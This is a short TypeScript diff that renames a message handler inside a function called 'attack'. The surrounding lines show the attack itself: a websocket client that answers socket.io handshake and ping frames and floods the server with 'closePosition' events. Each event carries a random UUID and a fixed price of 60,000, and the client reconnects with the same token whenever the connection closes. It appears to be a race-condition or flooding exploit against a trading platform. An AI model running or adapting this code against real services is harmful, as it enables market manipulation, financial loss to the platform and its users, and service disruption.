@@ -24,7 +24,7 @@ function attack(token: string): void {
     const position = JSON.stringify({ id: randomUUID(), price: 60_000 });
     socket.send(`42${sent++}["closePosition",${position}]`);
   };
-  const take = (text: string) => {
+  const handleMessage = (text: string) => {
     if (text.startsWith('0')) socket.send('40');
     else if (text === '2') socket.send('3');
     else if (text.startsWith('40')) for (let first = 0; first < underWay; first += 1) send();
@@ -37,7 +37,7 @@ function attack(token: string): void {
       send();
     }
   };
-  socket.on('message', (data: Buffer) => take(data.toString()));
+  socket.on('message', (data: Buffer) => handleMessage(data.toString()));
   socket.on('error', () => undefined);
   socket.once('close', () => setTimeout(attack, againMs, token));
 }
